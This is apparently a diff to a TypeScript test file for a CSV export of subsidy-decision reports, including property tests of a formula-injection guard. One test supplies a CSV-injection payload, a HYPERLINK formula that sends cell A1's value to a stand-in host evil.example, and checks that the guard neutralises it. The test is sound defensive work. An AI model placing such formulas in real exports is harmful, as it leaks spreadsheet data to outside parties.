@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { parseCsv, readAsSpreadsheet } from '../../../../test/support/csv.js';
 import { CSV_COLUMNS, csvField, neutraliseFormulas, reportsToCsv } from './report-csv.js';
-import type { ReportCaseView, ReportView } from './report.dto.js';
+import type { ReportDecisionView, ReportView } from './report.dto.js';
 
 /** What a spreadsheet runs as a formula when a cell starts with it (OWASP "CSV injection"). */
 const FORMULA = /^[=+\-@\t\r]/;
@@ -39,10 +39,10 @@ describe('csvField', () => {
 });
 
 describe('reportsToCsv', () => {
-  it('writes a header and one CRLF record per case, even for an empty report', () => {
-    const empty = { number: 4, cases: [] } as unknown as ReportView;
+  it('writes a header and one CRLF record per decision, even for an empty report', () => {
+    const empty = { number: 4, decisions: [], cases: [] } as unknown as ReportView;
     expect(reportsToCsv([empty]).split('\r\n')).toEqual([
-      expect.stringMatching(/^reportNumber,reference,/),
+      expect.stringMatching(/^reportNumber,seq,decidedAt,reference,/),
       '',
     ]);
   });
@@ -52,24 +52,21 @@ describe('reportsToCsv', () => {
     unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', "'", ',', ';', ' ', 'a', 'Z', '1', 'é'),
     maxLength: 14,
   });
+  const decision = (title: string, theme: string): ReportDecisionView => ({
+    seq: 12,
+    at: '2026-03-01T10:00:00.000Z',
+    caseId: '00000000-0000-4000-8000-000000000001',
+    reference: 'INI-2026-000001',
+    type: 'initiative',
+    title,
+    areaCode: 'oost',
+    theme,
+    event: 'SETTLE',
+    amountCents: 150_000,
+    releasedCents: 50_000,
+  });
   const reportWith = (title: string, theme: string): ReportView =>
-    ({
-      number: 7,
-      cases: [
-        {
-          reference: 'INI-2026-000001',
-          type: 'initiative',
-          title,
-          areaCode: 'oost',
-          theme,
-          outcome: 'honoured',
-          decidedBy: 'college',
-          requestedAmountCents: 250_000,
-          honouredAmountCents: 200_000,
-          decidedAt: '2026-03-01T10:00:00.000Z',
-        } as ReportCaseView,
-      ],
-    }) as unknown as ReportView;
+    ({ number: 7, decisions: [decision(title, theme)], cases: [] }) as unknown as ReportView;
 
   it('reads back as written with a strict RFC 4180 reader, texts changed only by the formula guard', () => {
     fc.assert(
@@ -79,20 +76,22 @@ describe('reportsToCsv', () => {
         expect(rest).toEqual([]);
         expect(record).toEqual([
           '7',
+          '12',
+          '2026-03-01T10:00:00.000Z',
           'INI-2026-000001',
           'initiative',
           neutraliseFormulas(title),
           'oost',
           neutraliseFormulas(theme),
-          'honoured',
-          'college',
-          '250000',
-          '200000',
-          '2026-03-01T10:00:00.000Z',
+          'SETTLE',
+          'Subsidie vastgesteld',
+          '150000',
+          '50000',
+          'false',
         ]);
         // The guard only adds apostrophes, and only where a formula could start.
         expect(neutraliseFormulas(title).replace(/'/g, '')).toBe(title.replace(/'/g, ''));
-        if (!/[=+\-@\t\r]/.test(title)) expect(record[3]).toBe(title);
+        if (!/[=+\-@\t\r]/.test(title)) expect(record[5]).toBe(title);
       }),
       { numRuns: 1000 },
     );
@@ -118,9 +117,48 @@ describe('reportsToCsv', () => {
   it('keeps Bankjes;=HYPERLINK(…) in one cell for a comma reader and out of a formula for Dutch Excel', () => {
     const title = 'Bankjes;=HYPERLINK("https://evil.example/?q="&A1,"Klik")';
     const csv = reportsToCsv([reportWith(title, 'groen')]);
-    expect(parseCsv(csv)[1][3]).toBe(`Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`);
+    expect(parseCsv(csv)[1][5]).toBe(`Bankjes;'=HYPERLINK("https://evil.example/?q="&A1,"Klik")`);
     const dutch = readAsSpreadsheet(csv, ';')[1];
     expect(dutch).toHaveLength(2);
     expect(dutch[1]).toMatch(/^'=HYPERLINK/);
+  });
+
+  it('gives each decision its Dutch word, leaves absent amounts empty, and marks the decision that closed a filed case', () => {
+    const base = decision('Plan', 'groen');
+    const report = {
+      number: 3,
+      decisions: [
+        { ...base, seq: 5, event: 'HONOUR', amountCents: 200_000, releasedCents: undefined },
+        { ...base, seq: 9, event: 'SETTLE' },
+        {
+          ...base,
+          seq: 10,
+          caseId: 'other',
+          reference: 'INI-2026-000002',
+          event: 'REJECT',
+          amountCents: undefined,
+          releasedCents: undefined,
+        },
+        {
+          ...base,
+          seq: 11,
+          caseId: 'running',
+          reference: 'UDR-2026-000003',
+          type: 'right_to_challenge',
+          event: 'SIGN_AGREEMENT',
+          amountCents: undefined,
+          releasedCents: undefined,
+        },
+      ],
+      cases: [{ caseId: base.caseId }, { caseId: 'other' }],
+    } as unknown as ReportView;
+    const [, ...rows] = parseCsv(reportsToCsv([report]));
+    const pick = (r: string[]) => [r[1], r[3], r[8], r[9], r[10], r[11], r[12]];
+    expect(rows.map(pick)).toEqual([
+      ['5', 'INI-2026-000001', 'HONOUR', 'Toegekend', '200000', '', 'false'],
+      ['9', 'INI-2026-000001', 'SETTLE', 'Subsidie vastgesteld', '150000', '50000', 'true'],
+      ['10', 'INI-2026-000002', 'REJECT', 'Afgewezen', '', '', 'true'],
+      ['11', 'UDR-2026-000003', 'SIGN_AGREEMENT', 'Overeenkomst getekend', '', '', 'false'],
+    ]);
   });
 });
